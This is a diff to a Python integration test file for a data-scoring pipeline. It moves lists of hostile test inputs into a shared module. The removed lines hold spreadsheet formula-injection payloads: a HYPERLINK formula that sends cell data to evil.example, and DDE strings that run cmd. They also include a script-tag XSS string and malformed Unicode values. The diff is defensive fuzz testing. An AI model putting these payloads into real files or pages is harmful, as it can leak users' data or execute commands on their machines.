@@ -42,6 +42,7 @@ from include.scoring.lake import catalog
 from include.scoring.lake.store import Lake
 from include.scoring.validate.stage import validate_stage
 from tests.conftest import SAMPLE_END
+from tests.integration.hostile import FORMULAS, HUGE, SPECIAL_FLOATS, UNICODE
 
 pytestmark = pytest.mark.integration
 
@@ -53,55 +54,6 @@ SETTINGS = settings(
     database=None,
     suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
 )
-
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-    "=1+2",
-    "+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1",
-    "\r=1",
-]
-UNICODE = [
-    "\x00",
-    "a\x00b",
-    "\u200f\u202eevil\u202c",
-    "\u200b\u200d\ufeff",
-    "e\u0301\u0301\u0301",
-    "Z\u0351\u0352\u0353\u0354",
-    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
-    "\u2028line\u2029para",
-    "\\ud800",
-    "\\",
-    "\"'`;--",
-    "</script><script>alert(1)</script>",
-    "caf\u00e9 \u00fc\u00f1\u00ee",
-    "\u0000\u0001\u001f\u007f",
-    "\uffff\ufffe",
-    "a\r\nb",
-    "a\nb",
-    "a\rb",
-    " ",
-    "",
-    ",",
-    '"',
-    '""',
-    "NULL",
-    "null",
-    "None",
-    "NaN",
-    "nan",
-    "inf",
-    "-inf",
-    "Infinity",
-    "1e309",
-    "-0",
-    "0x1F",
-    "9" * 40,
-]
-HUGE = ["x" * 150_000, "\U0001f600" * 60_000]
-SPECIAL_FLOATS = [float("nan"), float("inf"), float("-inf"), -0.0, 1e308, -1e-320]
 
 
 def _good_value(source: str, name: str, i: int, draw) -> object:
@@ -352,10 +304,12 @@ def check_outcome(outcome: dict, source: str, name: str) -> None:
         "web",
         "csv",
         "hostile.csv",
-        "\ufeffevent_id,event_time,anonymous_id,email,ip,url,event_type,form_type,duration_seconds,user_agent,referrer\r\n"
-        'w-1,2026-11-20T10:00:00Z,ck,=HYPERLINK("http://x"),20.0.0.7,https://a.io/,page_view,,NaN,"multi\nline",\r\n'.encode(
-            "utf-16"
-        ),
+        (
+            "\ufeffevent_id,event_time,anonymous_id,email,ip,url,event_type,form_type,"
+            "duration_seconds,user_agent,referrer\r\n"
+            'w-1,2026-11-20T10:00:00Z,ck,=HYPERLINK("http://x"),20.0.0.7,https://a.io/,page_view,,NaN,'
+            '"multi\nline",\r\n'
+        ).encode("utf-16"),
         1,
     )
 )
